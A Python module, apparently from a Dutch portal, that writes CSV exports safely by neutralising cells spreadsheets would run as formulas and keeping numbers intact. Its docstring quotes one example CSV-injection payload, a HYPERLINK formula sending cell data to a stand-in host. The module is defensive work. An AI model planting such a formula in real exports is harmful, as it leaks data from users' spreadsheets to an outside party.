"""The one CSV writer of the portal: no cell of an export becomes a formula.

A spreadsheet takes a cell that starts with =, +, - or @ (also after a tab,
a carriage return or spaces) for a formula: a straatcluster named
``=HYPERLINK("http://evil.example/?d="&A1,"Open")`` would put a link that
sends data away into the export a colleague opens. Every text cell that could
start a formula gets a leading apostrophe, which spreadsheets show as plain
text (OWASP, "CSV Injection").

Numbers are written as numbers and never changed: an int, Decimal or float
is formatted by the writer (with a decimal comma by default, as Dutch
spreadsheets read it), so a measurement of -3,5 stays a usable -3,5. Pass a
value that is a number as a number; a text that merely looks like one is
text and is neutralised like any other.

    writer = core.csv.writer(response)
    writer.writerow(["gebied", "waarde"])
    writer.writerow([gebied.name, meting.value])
"""

import csv as stdlib_csv
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

#: First characters that make a spreadsheet evaluate a cell, with the
#: full-width forms some spreadsheets accept too.
FORMULA_STARTS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
#: Characters a spreadsheet may skip before it looks for a formula.
_SKIPPED = " \t\r\n"


def neutralise(text: str) -> str:
    """The text, with an apostrophe in front when a spreadsheet would run it."""
    if not text:
        return text
    if text[0] in "\t\r" or text.lstrip(_SKIPPED)[:1] in FORMULA_STARTS:
        return "'" + text
    return text


def _number(value: int | float | Decimal, decimal_comma: bool) -> str:
    text = format(value, "f") if isinstance(value, Decimal) else str(value)
    return text.replace(".", ",") if decimal_comma else text


def cell(value: Any, *, decimal_comma: bool = True) -> str:
    """One cell as text: numbers as numbers, anything else as safe text."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return _number(value, decimal_comma)
    return neutralise(str(value))


class Writer:
    """csv.writer with every cell passed through cell()."""

    def __init__(self, file, *, delimiter: str = ";", decimal_comma: bool = True):
        self._writer = stdlib_csv.writer(file, delimiter=delimiter)
        self._decimal_comma = decimal_comma

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(
            [cell(v, decimal_comma=self._decimal_comma) for v in row]
        )

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(file, *, delimiter: str = ";", decimal_comma: bool = True) -> Writer:
    return Writer(file, delimiter=delimiter, decimal_comma=decimal_comma)


class Echo:
    """A file that hands back what is written: for StreamingHttpResponse rows."""

    def write(self, value: str) -> str:
        return value
